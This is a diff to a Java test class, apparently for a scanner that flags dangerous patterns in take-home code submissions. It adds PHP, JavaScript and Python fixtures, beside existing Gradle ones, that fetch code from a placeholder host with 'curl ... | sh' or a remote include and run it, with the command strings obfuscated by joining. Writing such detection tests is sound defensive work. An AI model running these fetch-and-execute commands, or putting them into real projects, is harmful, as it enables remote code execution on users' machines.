@@ -46,6 +46,9 @@ final class TakeHomeCodeTest {
         "build.gradle.kts#apply(from = \"https://x.example/a.gradle\")",
         "build.gradle#apply from: 'https://x.example/a.gradle'",
         "a.php#<?php include 'https://x.example/a.txt';",
+        "a.php#<?php $base = 'https://x.example/';\ninclude $base . 'a.txt';",
+        "a.js#const c = ['curl', '-s', 'https://x.example/a', '|', 'sh'].join(' ');\nexecSync(c);",
+        "a.py#import os\nos.system(' '.join(['curl', 'https://x.example/a', '|', 'sh']))",
         "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\") }",
         "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
   }
